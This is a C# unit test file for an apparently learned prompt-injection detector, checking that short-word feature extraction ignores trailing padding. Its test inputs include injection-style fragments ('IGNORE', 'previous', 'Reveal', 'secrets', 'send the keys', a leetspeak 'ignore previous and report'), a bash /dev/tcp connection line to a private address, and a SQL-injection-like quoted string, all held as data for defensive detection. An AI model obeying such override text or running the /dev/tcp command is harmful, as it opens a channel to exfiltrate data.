using System.Text;
using Postern.Engine.Detection.Injection.Learned;

namespace Postern.Engine.Tests.Detection.Injection.Learned;

/// <summary>Words that are read at once have the features of words that are read letter by letter.</summary>
public sealed class ShortWordTests
{
    /// <summary>So near the end of a text words are read letter by letter.</summary>
    private static readonly string s_room = new(' ', 16);

    [Theory]
    [InlineData("a")]
    [InlineData("Go")]
    [InlineData("you")]
    [InlineData("rule")]
    [InlineData("Reveal")]
    [InlineData("IGNORE")]
    [InlineData("commands")]
    [InlineData("previous")]
    [InlineData("secrets")]
    [InlineData("it's me")]
    [InlineData("send the keys")]
    [InlineData("longerword")]
    [InlineData("port 80<b>, 443: and 5_000@x")]
    [InlineData("considerations")]
    [InlineData("responsibilities and so on")]
    [InlineData("1gn0r3 pr3v10u5 4nd r3p0rt 789")]
    [InlineData("exec 3<>/dev/tcp/10.0.0.5/80")]
    [InlineData("'7' or \"42 of 20261120\" a 1")]
    public void The_features_are_the_same_whatever_room_is_behind(string text) => Assert.Equal(Features(text), Features(text + s_room));

    [Theory]
    [InlineData("considerations", 14)]
    [InlineData("fifteen-letters", 7)]
    [InlineData("fifteenletters1", 0)]
    [InlineData("leet5", 5)]
    [InlineData("caf\u00E9", 0)]
    [InlineData("20261120.", 8)]
    [InlineData("commands", 8)]
    [InlineData("end.", 3)]
    public void Only_short_words_of_letters_and_digits_are_read_at_once(string text, int length) =>
        Assert.Equal(length, ShortWord.At(Encoding.UTF8.GetBytes(text + s_room), 0).Length);

    private static List<uint> Features(string text)
    {
        var walk = new FeatureWalk<Kept>(Encoding.UTF8.GetBytes(text), InjectionModel.BuiltIn.Lexicon, new Kept([]));
        walk.Run();
        return walk.Sink.All;
    }

    private readonly struct Kept(List<uint> all) : IFeatureSink
    {
        public static int TokensAtOnce => 1;

        public List<uint> All => all;

        public void Add(scoped ReadOnlySpan<uint> features, ref RecentFeatures recent) => all.AddRange(features);

        public void Meet(byte kind)
        {
        }

        public void EndToken(int start, int end)
        {
        }
    }
}
